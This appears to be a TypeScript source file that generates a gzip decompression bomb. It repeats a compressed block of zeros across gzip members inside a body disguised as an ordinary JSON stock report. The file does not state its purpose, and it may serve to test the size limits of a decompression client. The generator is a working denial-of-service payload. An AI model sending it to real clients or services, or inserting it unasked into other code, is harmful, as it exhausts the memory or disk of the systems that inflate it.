import { promisify } from 'node:util';
import { gzip } from 'node:zlib';

/** Inflated bytes of the part that is sent again and again; compressing it once takes some 10 ms. */
const PART_BYTES = 4 * 1024 * 1024;

const compress = promisify(gzip);

/**
 * A gzip body of about `bytes` once inflated, in pieces, about a thousandth of that on the wire.
 * It is cheap to make: a gzip file may have several members (RFC 1952 §2.2), so one is repeated.
 */
export async function* zipBomb(bytes: number): AsyncGenerator<Buffer> {
  const part = await compress(Buffer.alloc(PART_BYTES, '0'), { level: 9 });
  // One endless number cell of a report that starts as any other.
  yield compress(
    '{"data":"\\"\\tStock\\"\\r\\n\\r\\n\\"\\tSegment\\",\\"\\tTotals\\"\\r\\n\\"\\tAll\\",\\"',
  );
  for (let sent = 0; sent < bytes; sent += PART_BYTES) yield part;
  yield compress('\\"\\r\\n"}');
}
